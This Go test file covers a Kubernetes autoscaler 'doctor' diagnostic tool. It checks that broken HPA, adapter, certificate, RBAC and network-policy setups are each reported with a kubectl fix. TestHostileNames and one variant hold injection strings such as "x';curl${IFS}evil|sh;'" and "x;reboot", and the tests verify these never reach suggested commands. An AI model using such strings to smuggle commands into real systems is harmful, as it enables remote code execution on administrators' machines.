package doctor

import (
	"bytes"
	"errors"
	"math"
	"net/http"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/google/go-cmp/cmp"
	authorizationv1 "k8s.io/api/authorization/v1"
	autoscalingv2 "k8s.io/api/autoscaling/v2"
	corev1 "k8s.io/api/core/v1"
	networkingv1 "k8s.io/api/networking/v1"
	apierrors "k8s.io/apimachinery/pkg/api/errors"
	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
	"k8s.io/apimachinery/pkg/runtime/schema"
	"k8s.io/apimachinery/pkg/util/intstr"
	apiregistration "k8s.io/kube-aggregator/pkg/apis/apiregistration/v1"

	"github.com/tachometer-metrics/tachometer/pkg/golden"
	"github.com/tachometer-metrics/tachometer/pkg/plugin/output"
	"github.com/tachometer-metrics/tachometer/pkg/podpage"
)

// breakages are the ways in which a newcomer's autoscaler does not work, each with the first check that says so.
var breakages = map[string]struct {
	spoil func(w *world)
	want  Check
}{
	"typo_in_the_metric_name": {
		func(w *world) {
			w.hpa.Spec.Metrics[0].Pods.Metric.Name = "request_per_secnd"
			w.answers[strings.Replace(podsMetricPath, "second", "secnd", 1)] = newAdapterStatus(http.StatusNotFound, metav1.StatusReasonNotFound,
				`no rule for metric "request_per_secnd" on pods; nearest: request_per_second`)
		},
		Check{
			"metric", "shop/web", StatusFail,
			`request_per_secnd of pods: no rule for metric "request_per_secnd" on pods; nearest: request_per_second`,
			`kubectl -n shop patch hpa web --type=json -p '[{"op":"replace","path":"/spec/metrics/0/pods/metric/name","value":"request_per_second"}]'`,
		},
	},
	"wrong_port": {
		func(w *world) {
			w.deployment.Spec.Template.Annotations = map[string]string{podpage.AnnotationPort: "9999"}
			w.answers[podsMetricPath] = newAdapterStatus(http.StatusServiceUnavailable, metav1.StatusReasonServiceUnavailable,
				"2 pods: 2 scrape failed (connection refused)", causeScrapeFailed)
		},
		Check{
			"metric", "shop/web", StatusFail, "request_per_second of pods: 2 pods: 2 scrape failed (connection refused)",
			`kubectl -n shop patch deployment/web -p '{"spec":{"template":{"metadata":{"annotations":{"prometheus.io/port":"8080"}}}}}'`,
		},
	},
	"no_rights": {
		func(w *world) {
			w.denied = func(a authorizationv1.ResourceAttributes) bool { return a.Group == "custom.metrics.k8s.io" }
		},
		Check{
			"rights", hpaController, StatusFail, "may not get custom.metrics.k8s.io in shop",
			"kubectl create clusterrolebinding hpa-metrics --clusterrole=tachometer-metrics-reader --serviceaccount=kube-system:horizontal-pod-autoscaler",
		},
	},
	"expired_certificate": {
		func(w *world) {
			w.expiry = worldTime.Add(-time.Hour)
			for _, p := range w.adapterPods { // an adapter with an expired certificate says that it is not ready
				p.Status.Conditions = []corev1.PodCondition{{Type: corev1.PodReady, Status: corev1.ConditionFalse, Message: "containers with unready status: [adapter]"}}
			}
		},
		Check{
			"certificate", "tachometer/tachometer-adapter-1", StatusFail, "expired at 2026-11-28T11:00:00Z",
			"kubectl -n tachometer rollout restart deployment/tachometer-adapter",
		},
	},
	"network_policy": {
		func(w *world) {
			w.more = append(w.more, denyIngress())
			w.answers[podsMetricPath] = newAdapterStatus(http.StatusServiceUnavailable, metav1.StatusReasonServiceUnavailable,
				"2 pods: 2 scrape failed (no response within 1s)", causeScrapeFailed)
		},
		Check{
			"network", "shop/web", StatusFail, "networkpolicy/deny-all does not admit the adapter's pods to port 8080",
			`kubectl -n shop patch networkpolicy deny-all --type=json -p '[{"op":"add","path":"/spec/ingress","value":[]},` +
				`{"op":"add","path":"/spec/ingress/-","value":{"from":[{"namespaceSelector":{"matchLabels":{"kubernetes.io/metadata.name":"tachometer"}}}],"ports":[{"port":8080}]}}]'`,
		},
	},
	"stale": {
		func(w *world) {
			w.answers[podsMetricPath] = newAdapterStatus(http.StatusServiceUnavailable, metav1.StatusReasonServiceUnavailable,
				"2 pods: 2 stale (no fresh sample)", causeStale)
		},
		Check{
			"metric", "shop/web", StatusFail, "request_per_second of pods: 2 pods: 2 stale (no fresh sample)",
			"kubectl get --raw /api/v1/namespaces/shop/pods/web-1:8080/proxy/metrics",
		},
	},
	"warming_up": {
		func(w *world) {
			w.answers[podsMetricPath] = newAdapterStatus(http.StatusServiceUnavailable, metav1.StatusReasonServiceUnavailable,
				"2 pods: 2 warming up", causeWarmingUp)
			active := &w.hpa.Status.Conditions[1] // the controller read as much
			active.Status, active.Reason, active.Message = corev1.ConditionFalse, "FailedGetPodsMetric", "2 pods: 2 warming up"
		},
		Check{
			"metric", "shop/web", StatusWarning, "request_per_second of pods: 2 pods: 2 warming up",
			"kubectl tachometer doctor hpa/web -n shop",
		},
	},
	"disruption_budget": {
		func(w *world) { w.budget.Spec.MinAvailable = new(intstr.FromInt32(2)) },
		Check{
			"budget", "shop/web", StatusWarning,
			"pdb/web keeps 2 pods and the autoscaler's minReplicas is 2: at the minimum no node can be drained",
			`kubectl -n shop patch pdb web --type=merge -p '{"spec":{"minAvailable":null,"maxUnavailable":1}}'`,
		},
	},
	"two_autoscalers": {
		func(w *world) {
			second := w.hpa.DeepCopy()
			second.Name, second.CreationTimestamp = "web-cpu", metav1.NewTime(worldTime)
			w.more = append(w.more, second)
		},
		Check{
			"rival", "shop/web", StatusFail, "hpa/web-cpu scales Deployment web too: put the metrics of both into one autoscaler",
			"kubectl -n shop delete hpa web-cpu",
		},
	},
	"limit_reached": {
		func(w *world) {
			w.hpa.Status.Conditions[2] = autoscalingv2.HorizontalPodAutoscalerCondition{
				Type: autoscalingv2.ScalingLimited, Status: corev1.ConditionTrue, Reason: "TooManyReplicas",
				Message: "the desired replica count is more than the maximum replica count",
			}
		},
		Check{
			"condition", "shop/web", StatusWarning,
			"ScalingLimited=True: it wants more than maxReplicas (the desired replica count is more than the maximum replica count)",
			`kubectl -n shop patch hpa web --type=merge -p '{"spec":{"maxReplicas":20}}'`,
		},
	},
}

// TestBreakages: each of the ten breakages is the first thing that doctor names, with the command that mends it.
func TestBreakages(t *testing.T) {
	t.Parallel()
	for name, tc := range breakages {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			w := newWorld(t)
			tc.spoil(w)
			report := w.run("web")
			if diff := cmp.Diff(&tc.want, report.First()); diff != "" {
				t.Errorf("first broken (-want +got):\n%s", diff)
			}
			if want := tc.want.Status == StatusFail; report.Broken() != want {
				t.Errorf("Broken() = %v, want %v", report.Broken(), want)
			}
			var out bytes.Buffer
			if err := report.Print(&out, output.TableOptions{}); err != nil {
				t.Fatal(err)
			}
			compareGolden(t, name, out.Bytes())
		})
	}
}

// newScrapeFailure is the adapter's answer where no scrape gets through.
func newScrapeFailure() *metav1.Status {
	return newAdapterStatus(http.StatusServiceUnavailable, metav1.StatusReasonServiceUnavailable, "2 pods: 2 scrape failed (no response within 1s)", causeScrapeFailed)
}

// variants are the breakages in other forms: the first broken check by its name, and a part of the command that mends it.
var variants = map[string]struct {
	spoil     func(w *world)
	name      string
	status    Status
	text, fix string
}{
	"the API belongs to another adapter": {func(w *world) {
		own := w.apiService(0).DeepCopy()
		w.answers[explainServicePath] = own
		w.apiService(0).Spec.Service = &apiregistration.ServiceReference{Namespace: "monitoring", Name: "prometheus-adapter", Port: new(int32(443))}
	}, "apiservice", StatusFail, "served by another adapter, monitoring/prometheus-adapter", "kubectl apply -k manifests/adapter"},
	"the APIService names another namespace": {func(w *world) {
		w.apiService(0).Spec.Service.Namespace = "tachometr"
		delete(w.answers, explainServicePath)
	}, "service", StatusFail, "does not exist", "kubectl apply -k manifests/adapter"},
	"the Service's selector is mistyped": {func(w *world) {
		w.service.Spec.Selector = map[string]string{"app.kubernetes.io/name": "tachometer-adaptr"}
		w.more = append(w.more, w.newAdapterDeployment(2))
	}, "pods", StatusFail, "no pod has the labels", "kubectl apply -k manifests/adapter"},
	"the adapter is scaled to 0": {func(w *world) {
		w.adapterPods = nil
		w.more = append(w.more, w.newAdapterDeployment(0))
	}, "pods", StatusFail, "no pod has the labels", "scale deployment/tachometer-adapter --replicas=2"},
	"the adapter's pods cannot be created": {func(w *world) {
		w.adapterPods = nil
		w.more = append(w.more, w.newAdapterDeployment(2))
	}, "pods", StatusFail, "no pod has the labels", "describe replicasets"},
	"the certificate is not valid yet": {func(w *world) {
		w.begin = worldTime.Add(time.Hour)
	}, "certificate", StatusFail, "is not yet valid", "rollout restart"},
	"values of the future": {func(w *world) {
		w.answers[podsMetricPath] = newPodsAnswer(worldTime.Add(time.Minute), "web-1", "web-2")
	}, "metric", StatusWarning, "1m0s in the future", "date -u"},
	"the limit cannot be doubled": {func(w *world) {
		w.hpa.Spec.MaxReplicas = math.MaxInt32
		w.hpa.Status.Conditions[2] = autoscalingv2.HorizontalPodAutoscalerCondition{Type: autoscalingv2.ScalingLimited, Status: corev1.ConditionTrue, Reason: "TooManyReplicas"}
	}, "condition", StatusWarning, "more than maxReplicas", `"maxReplicas":2147483647`},
	"no pod may be away": {func(w *world) {
		w.budget.Spec.MinAvailable, w.budget.Spec.MaxUnavailable = nil, new(intstr.FromString("0%"))
	}, "budget", StatusWarning, "pdb/web has maxUnavailable: 0%", `"maxUnavailable":1`},
	"one pod must stay": {func(w *world) {
		w.hpa.Spec.MinReplicas = new(int32(1))
	}, "budget", StatusWarning, "pdb/web keeps 1 pod and the autoscaler's minReplicas is 1", `"maxUnavailable":1`},
	"all pods must stay": {func(w *world) {
		w.budget.Spec.MinAvailable = new(intstr.FromString("100%"))
	}, "budget", StatusWarning, "pdb/web keeps 100% of the pods and the autoscaler's minReplicas is 2", `"maxUnavailable":1`},
	"two budgets": {func(w *world) {
		second := w.budget.DeepCopy()
		second.Name = "web-2"
		w.more = append(w.more, second)
	}, "budget", StatusWarning, "pdb/web and pdb/web-2 select the same pods", "delete pdb web-2"},
	"two autoscalers of one second": {func(w *world) {
		second := w.hpa.DeepCopy()
		second.Name = "a-web"
		w.more = append(w.more, second)
	}, "rival", StatusFail, "hpa/a-web scales Deployment web too", "delete hpa web"},
	"two autoscalers, the younger by KEDA": {func(w *world) {
		second := w.hpa.DeepCopy()
		second.Name, second.CreationTimestamp = "keda-hpa-web", metav1.NewTime(worldTime)
		second.OwnerReferences = []metav1.OwnerReference{{APIVersion: "keda.sh/v1alpha1", Kind: "ScaledObject", Name: "web"}}
		w.more = append(w.more, second)
	}, "rival", StatusFail, "hpa/keda-hpa-web scales Deployment web too", "delete hpa web"},
	"a policy for one of the pods": {func(w *world) {
		w.answers[podsMetricPath] = newScrapeFailure()
		policy := denyIngress()
		policy.Spec.PodSelector = metav1.LabelSelector{MatchLabels: map[string]string{"canary": "true"}}
		canary := newReadyPod("shop", "web-3", map[string]string{"app": "web", "canary": "true"})
		canary.Spec = w.deployment.Spec.Template.Spec
		w.more = append(w.more, policy, canary)
	}, "network", StatusFail, "networkpolicy/deny-all does not admit", "patch networkpolicy deny-all"},
	"a policy that stops what pods send": {func(w *world) {
		w.answers[podsMetricPath] = newScrapeFailure()
		policy := denyIngress()
		policy.Spec.PolicyTypes = []networkingv1.PolicyType{networkingv1.PolicyTypeEgress}
		w.more = append(w.more, policy)
	}, "metric", StatusFail, "2 scrape failed", "proxy/metrics"},
	"a mistyped name behind a policy": {func(w *world) {
		w.more = append(w.more, denyIngress())
		breakages["typo_in_the_metric_name"].spoil(w)
	}, "metric", StatusFail, "no rule for metric", "patch hpa web"},
	"no CPU behind a policy": {func(w *world) {
		w.more = append(w.more, denyIngress())
		w.hpa.Spec.Metrics = []autoscalingv2.MetricSpec{{Type: autoscalingv2.ResourceMetricSourceType, Resource: &autoscalingv2.ResourceMetricSource{
			Name: corev1.ResourceCPU, Target: autoscalingv2.MetricTarget{Type: autoscalingv2.UtilizationMetricType, AverageUtilization: new(int32(60))},
		}}}
	}, "metric", StatusFail, "the server could not find the requested resource", "kubectl"},
	"stale behind another path": {func(w *world) {
		w.deployment.Spec.Template.Annotations = map[string]string{podpage.AnnotationPath: "/stats/prometheus?all=1", podpage.AnnotationScheme: "https"}
		breakages["stale"].spoil(w)
	}, "metric", StatusFail, "2 stale", "kubectl get --raw '/api/v1/namespaces/shop/pods/https:web-1:8080/proxy/stats/prometheus?all=1'"},
	"stale behind a hostile path": {func(w *world) {
		w.deployment.Spec.Template.Annotations = map[string]string{podpage.AnnotationPath: "/x';reboot;'"}
		breakages["stale"].spoil(w)
	}, "metric", StatusFail, "2 stale", "kubectl -n shop describe pod web-1"},
}

// TestVariants: other forms of the ten breakages are named first too, with the command that mends them.
func TestVariants(t *testing.T) {
	t.Parallel()
	for name, tc := range variants {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			w := newWorld(t)
			tc.spoil(w)
			first := w.run("web").First()
			if first == nil || first.Name != tc.name || first.Status != tc.status || !strings.Contains(first.Message, tc.text) || !strings.Contains(first.Fix, tc.fix) {
				t.Errorf("first broken = %+v, want %s %s %q %q", first, tc.name, tc.status, tc.text, tc.fix)
			}
		})
	}
}

// TestSoundVariants: what looks like a breakage and is none.
func TestSoundVariants(t *testing.T) {
	t.Parallel()
	wantSound(t, map[string]func(t *testing.T, w *world){
		"an evicted pod of the adapter": func(_ *testing.T, w *world) {
			evicted := newReadyPod("tachometer", "tachometer-adapter-0", w.adapterPods[0].Labels)
			evicted.Status = corev1.PodStatus{Phase: corev1.PodFailed, Reason: "Evicted"}
			w.more = append(w.more, evicted)
		},
		"a budget of a workload that sleeps": func(_ *testing.T, w *world) { w.hpa.Spec.MinReplicas = new(int32(0)) },
		"it wants less than its minimum": func(_ *testing.T, w *world) {
			w.hpa.Status.Conditions[2] = autoscalingv2.HorizontalPodAutoscalerCondition{Type: autoscalingv2.ScalingLimited, Status: corev1.ConditionTrue, Reason: "TooFewReplicas"}
		},
	})
}

// wantSound expects that nothing is broken in any of the variants of a healthy world.
func wantSound(t *testing.T, variants map[string]func(t *testing.T, w *world)) {
	t.Helper()
	for name, vary := range variants {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			w := newWorld(t)
			vary(t, w)
			if first := w.run("web").First(); first != nil {
				t.Errorf("first broken = %+v", *first)
			}
		})
	}
}

// TestHealthyWorld: without a breakage every check is ok, so that the breakages above are what doctor finds.
func TestHealthyWorld(t *testing.T) {
	t.Parallel()
	report := newWorld(t).run("web")
	if first := report.First(); first != nil {
		t.Errorf("a healthy cluster has a broken check: %+v", *first)
	}
	if len(report.Checks) < 15 {
		t.Errorf("%d checks, too few to have walked the chain: %+v", len(report.Checks), report.Checks)
	}
	var out bytes.Buffer
	if err := report.Print(&out, output.TableOptions{}); err != nil {
		t.Fatal(err)
	}
	compareGolden(t, "healthy", out.Bytes())
}

// TestChain: hops between kube-apiserver and the adapter.
func TestChain(t *testing.T) {
	t.Parallel()
	for name, tc := range map[string]struct {
		spoil         func(w *world)
		check         string
		status        Status
		messagePrefix string
	}{
		"no APIService": {
			func(w *world) { w.answers = map[string]any{} }, "apiservice", StatusFail, "not registered: kube-apiserver knows no server",
		},
		"no APIService of the records": {
			func(w *world) { delete(w.answers, explainServicePath) }, "apiservice", StatusWarning, "not registered: explain --since, replay, budget and try",
		},
		"records that kube-apiserver does not reach": {
			func(w *world) {
				s, _ := w.answers[explainServicePath].(*apiregistration.APIService)
				s.Status.Conditions[0].Status, s.Status.Conditions[0].Reason, s.Status.Conditions[0].Message = apiregistration.ConditionFalse, "MissingEndpoints", "no endpoints"
			}, "available", StatusWarning, "MissingEndpoints: no endpoints",
		},
		"records that kube-apiserver serves itself": {
			func(w *world) {
				s, _ := w.answers[explainServicePath].(*apiregistration.APIService)
				s.Spec.Service = nil
			}, "apiservice", StatusWarning, "names no Service",
		},
		"unavailable": {
			func(w *world) { w.setUnavailable() }, "available", StatusFail, "FailedDiscoveryCheck: dial tcp 10.0.0.7:6443: i/o timeout",
		},
		"service without the port": {
			func(w *world) { w.service.Spec.Ports[0].Port = 8443 }, "service", StatusFail, "has no port 443",
		},
		"service port that no pod has": {
			func(w *world) { w.service.Spec.Ports[0].TargetPort = intstr.FromString("web") }, "pods", StatusFail, "the Service goes to port web",
		},
		"no pods": {
			func(w *world) { w.adapterPods = nil }, "pods", StatusFail, "no pod has the labels app.kubernetes.io/name=tachometer-adapter",
		},
		"image that cannot be pulled": {
			func(w *world) {
				for _, p := range w.adapterPods {
					p.Status.ContainerStatuses = []corev1.ContainerStatus{{Name: "adapter", State: corev1.ContainerState{
						Waiting: &corev1.ContainerStateWaiting{Reason: "ImagePullBackOff", Message: "not found"},
					}}}
				}
			}, "pods", StatusFail, "container adapter is waiting: ImagePullBackOff: not found",
		},
		"caBundle of another authority": {
			func(w *world) { w.issueCertificate(); w.chain = nil }, "certificate", StatusFail, "the caBundle of v1beta2.custom.metrics.k8s.io does not verify it",
		},
		"adapter without auth-reader": {
			func(w *world) {
				w.denied = func(a authorizationv1.ResourceAttributes) bool { return a.Resource == "configmaps" }
			}, "rights", StatusFail, "may not get configmap kube-system/extension-apiserver-authentication (auth-reader)",
		},
		"values of a dead scraper": {
			func(w *world) {
				w.answers[podsMetricPath] = newPodsAnswer(worldTime.Add(-3*time.Minute), "web-1", "web-2")
			}, "metric", StatusWarning, "request_per_second of pods: 2 values, the oldest is 3m0s old",
		},
		"pods without value": {
			func(w *world) { w.answers[podsMetricPath] = newPodsAnswer(worldTime, "web-1") },
			"metric", StatusWarning, "request_per_second of pods: 1 value, the oldest is 0s old; 1 of 2 pods without a value",
		},
		"target that does not exist": {
			func(w *world) { w.hpa.Spec.ScaleTargetRef.Name = "wep" }, "target", StatusFail, "Deployment wep does not exist",
		},
		"KEDA": {
			func(w *world) {
				w.hpa.OwnerReferences = []metav1.OwnerReference{{APIVersion: "keda.sh/v1alpha1", Kind: "ScaledObject", Name: "orders"}}
			}, "owner", StatusWarning, "KEDA owns this autoscaler",
		},
		"KEDA, by the label of a restored backup": {
			func(w *world) { w.hpa.Labels = map[string]string{"scaledobject.keda.sh/name": "orders"} },
			"owner", StatusWarning, "KEDA owns this autoscaler and overwrites changes to it: edit its ScaledObject orders",
		},
	} {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			w := newWorld(t)
			tc.spoil(w)
			first := w.run("web").First()
			if first == nil || first.Name != tc.check || first.Status != tc.status || !strings.HasPrefix(first.Message, tc.messagePrefix) {
				t.Errorf("first broken = %+v, want %s %s %q", first, tc.check, tc.status, tc.messagePrefix)
			}
		})
	}
}

// TestNetworkPolicies: a policy blocks only where no rule admits the adapter, and values that arrive prove that nothing blocks.
func TestNetworkPolicies(t *testing.T) {
	t.Parallel()
	admit := func(peer networkingv1.NetworkPolicyPeer, port networkingv1.NetworkPolicyPort) networkingv1.NetworkPolicyIngressRule {
		return networkingv1.NetworkPolicyIngressRule{From: []networkingv1.NetworkPolicyPeer{peer}, Ports: []networkingv1.NetworkPolicyPort{port}}
	}
	everyNamespace := networkingv1.NetworkPolicyPeer{NamespaceSelector: &metav1.LabelSelector{}}
	number := func(n int32) networkingv1.NetworkPolicyPort {
		return networkingv1.NetworkPolicyPort{Port: new(intstr.FromInt32(n))}
	}
	for name, tc := range map[string]struct {
		rules    []networkingv1.NetworkPolicyIngressRule
		blocking bool
	}{
		"no rule":                   {nil, true},
		"every namespace, the port": {[]networkingv1.NetworkPolicyIngressRule{admit(everyNamespace, number(8080))}, false},
		"every namespace, no port":  {[]networkingv1.NetworkPolicyIngressRule{admit(everyNamespace, number(9090))}, true},
		"range of ports": {[]networkingv1.NetworkPolicyIngressRule{admit(everyNamespace, networkingv1.NetworkPolicyPort{
			Port: new(intstr.FromInt32(8000)), EndPort: new(int32(9000)),
		})}, false},
		"named port": {[]networkingv1.NetworkPolicyIngressRule{admit(everyNamespace, networkingv1.NetworkPolicyPort{
			Port: new(intstr.FromString("http")),
		})}, false},
		"only its own namespace": {[]networkingv1.NetworkPolicyIngressRule{admit(networkingv1.NetworkPolicyPeer{
			PodSelector: &metav1.LabelSelector{},
		}, number(8080))}, true},
		"the adapter's address": {[]networkingv1.NetworkPolicyIngressRule{admit(networkingv1.NetworkPolicyPeer{
			IPBlock: &networkingv1.IPBlock{CIDR: "10.0.0.0/24"},
		}, number(8080))}, false},
		"all addresses but the adapter's": {[]networkingv1.NetworkPolicyIngressRule{admit(networkingv1.NetworkPolicyPeer{
			IPBlock: &networkingv1.IPBlock{CIDR: "10.0.0.0/8", Except: []string{"10.0.0.0/24"}},
		}, number(8080))}, true},
	} {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			w := newWorld(t)
			policy := denyIngress()
			policy.Spec.Ingress = tc.rules
			w.more = append(w.more, policy)
			if first := w.run("web").First(); first != nil {
				t.Errorf("values arrive, and still %+v", *first)
			}
			w.answers[podsMetricPath] = newAdapterStatus(http.StatusServiceUnavailable, metav1.StatusReasonServiceUnavailable, "2 pods: 2 scrape failed", causeScrapeFailed)
			if first := w.run("web").First(); first == nil || (first.Name == "network") != tc.blocking {
				t.Errorf("first broken = %+v, want a blocking policy: %v", first, tc.blocking)
			}
		})
	}
}

// TestPartialResults: what a user may not read is said, and the rest is still checked.
func TestPartialResults(t *testing.T) {
	t.Parallel()
	w := newWorld(t)
	w.certificateFailed = errNoRights
	w.answers[podsMetricPath] = newAdapterStatus(http.StatusForbidden, metav1.StatusReasonForbidden, `pods.custom.metrics.k8s.io "*" is forbidden: User "ann"`)
	report := w.run("web")
	unread := map[string]int{}
	for _, c := range report.Checks {
		if c.Status == StatusUnread {
			unread[c.Name]++
		}
	}
	if diff := cmp.Diff(map[string]int{"certificate": 2, "metric": 1}, unread); diff != "" {
		t.Errorf("could not read (-want +got):\n%s", diff)
	}
	if report.Broken() {
		t.Errorf("what could not be read counts as broken: %+v", report.First())
	}
}

// TestAdapterNetwork: policies of the adapter's own namespace, on the way in and on the way out.
func TestAdapterNetwork(t *testing.T) {
	t.Parallel()
	policy := func(direction networkingv1.PolicyType, spec networkingv1.NetworkPolicySpec) *networkingv1.NetworkPolicy {
		spec.PolicyTypes = []networkingv1.PolicyType{direction}
		return &networkingv1.NetworkPolicy{ObjectMeta: metav1.ObjectMeta{Namespace: "tachometer", Name: "narrow"}, Spec: spec}
	}
	everyPod := []networkingv1.NetworkPolicyPeer{{NamespaceSelector: &metav1.LabelSelector{}}}
	for name, tc := range map[string]struct {
		policy *networkingv1.NetworkPolicy
		want   string // the begin of the message, or nothing
	}{
		"in from pods only": {
			policy(networkingv1.PolicyTypeIngress, networkingv1.NetworkPolicySpec{Ingress: []networkingv1.NetworkPolicyIngressRule{{From: everyPod}}}),
			"networkpolicy/narrow admits only pods to port 6443",
		},
		"in from everywhere": {
			policy(networkingv1.PolicyTypeIngress, networkingv1.NetworkPolicySpec{Ingress: []networkingv1.NetworkPolicyIngressRule{{
				Ports: []networkingv1.NetworkPolicyPort{{Port: new(intstr.FromString("https"))}},
			}}}), "",
		},
		"out to no pod": {policy(networkingv1.PolicyTypeEgress, networkingv1.NetworkPolicySpec{}), "networkpolicy/narrow in namespace tachometer does not let the adapter out to port 8080"},
		"out to every pod": {
			policy(networkingv1.PolicyTypeEgress, networkingv1.NetworkPolicySpec{Egress: []networkingv1.NetworkPolicyEgressRule{{To: everyPod}}}), "",
		},
	} {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			w := newWorld(t)
			w.more = append(w.more, tc.policy)
			if first := w.run("web").First(); first != nil {
				t.Errorf("all works, and still %+v", *first)
			}
			w.setUnavailable()
			w.answers[podsMetricPath] = newAdapterStatus(http.StatusServiceUnavailable, metav1.StatusReasonServiceUnavailable, "2 pods: 2 scrape failed", causeScrapeFailed)
			found := ""
			for _, c := range w.run("web").Checks {
				if c.Name == "network" && c.Status == StatusFail {
					found = c.Message
				}
			}
			if !strings.HasPrefix(found, tc.want) || tc.want == "" && found != "" {
				t.Errorf("found %q, want %q", found, tc.want)
			}
		})
	}
}

// TestCustomResource: a scale target of any kind is known over its scale subresource.
func TestCustomResource(t *testing.T) {
	t.Parallel()
	w := newWorld(t)
	w.hpa.Spec.ScaleTargetRef = autoscalingv2.CrossVersionObjectReference{APIVersion: "argoproj.io/v1alpha1", Kind: "Rollout", Name: "web"}
	w.answers["/apis/argoproj.io/v1alpha1/namespaces/shop/rollouts/web/scale"] = map[string]any{"status": map[string]any{"selector": "app=web"}}
	report := w.run("web")
	if first := report.First(); first != nil {
		t.Errorf("first broken = %+v", *first)
	}
	found := false
	for _, c := range report.Checks {
		found = found || c.Name == "target" && c.Message == "rollout/web, 2 pods"
	}
	if !found {
		t.Errorf("the pods of the custom resource are not found: %+v", report.Checks)
	}
}

// TestHostileNames: a tenant's text moves no cursor, and never becomes part of a command that an administrator pastes.
func TestHostileNames(t *testing.T) {
	t.Parallel()
	const name = "x';curl${IFS}evil|sh;'\x1b[2J\u202e_per_second"
	w := newWorld(t)
	w.hpa.Spec.Metrics[0].Pods.Metric.Name = name
	w.hpa.OwnerReferences = []metav1.OwnerReference{{APIVersion: "keda.sh/v1alpha1", Kind: "ScaledObject", Name: "x;reboot"}}
	w.answers[strings.Replace(podsMetricPath, "request_per_second", name, 1)] = newAdapterStatus(http.StatusNotFound, metav1.StatusReasonNotFound,
		"no rule for metric on pods; nearest: "+name)
	report := w.run("web")
	var out bytes.Buffer
	if err := report.Print(&out, output.TableOptions{}); err != nil {
		t.Fatal(err)
	}
	if strings.ContainsAny(out.String(), "\x1b\u202e") {
		t.Errorf("control characters are printed: %q", out.String())
	}
	found := false
	for _, c := range report.Checks {
		found = found || c.Name == "metric" && strings.Contains(c.Message, "nearest: x';curl")
		if strings.Contains(c.Fix, ";curl") || strings.Contains(c.Fix, ";reboot") {
			t.Errorf("a tenant's text is part of a command: %s", c.Fix)
		}
	}
	if !found {
		t.Errorf("the answer of the adapter is not there: %+v", report.Checks)
	}
}

func TestUnknownAutoscaler(t *testing.T) {
	t.Parallel()
	if first := newWorld(t).run("wep").First(); first == nil || first.Name != "autoscaler" || first.Status != StatusFail {
		t.Errorf("first broken = %+v, want the autoscaler", first)
	}
}

func compareGolden(t *testing.T, name string, got []byte) {
	t.Helper()
	path := filepath.Join("testdata", name+".golden")
	golden.Compare(t, path, string(got))
}

// TestUnansweredClusterIsBroken: without kube-apiserver nothing is fine, and one line says why.
func TestUnansweredClusterIsBroken(t *testing.T) {
	t.Parallel()
	for name, tc := range map[string]struct {
		err    error
		broken bool
	}{
		"nobody listens":    {errors.New("dial tcp 10.0.0.1:443: connect: connection refused"), true},
		"an unknown user":   {apierrors.NewUnauthorized("token expired"), true},
		"a forbidden path":  {apierrors.NewForbidden(schema.GroupResource{}, "", errors.New("no right")), false},
		"a path is unknown": {apierrors.NewNotFound(schema.GroupResource{}, "version"), false},
		"no server behind":  {apierrors.NewServiceUnavailable("no healthy upstream"), true},
		"too many requests": {apierrors.NewTooManyRequestsError("the server has asked for the client to slow down"), true},
		"storage is gone":   {apierrors.NewInternalError(errors.New("etcdserver: request timed out")), true},
	} {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			w := newWorld(t)
			w.versionErr = tc.err
			report := w.run("web")
			if broken := report.Broken(); broken != tc.broken {
				t.Fatalf("broken is %v, want %v: %+v", broken, tc.broken, report.Checks)
			}
			if want := (Check{"cluster", "kube-apiserver", StatusFail, tc.err.Error(), "kubectl cluster-info"}); tc.broken && (len(report.Checks) != 1 || report.Checks[0] != want) {
				t.Errorf("checks %+v, want only %+v", report.Checks, want)
			}
		})
	}
}

// TestUnknownAdapterHasNoRights: rights that were not asked for are not called granted.
func TestUnknownAdapterHasNoRights(t *testing.T) {
	t.Parallel()
	w := newWorld(t)
	w.adapterPods = nil
	for _, c := range w.run("web").Checks {
		if c.Name == "rights" && c.Status != StatusUnread {
			t.Errorf("rights of an adapter without pods: %s %s", c.Status, c.Message)
		}
	}
}
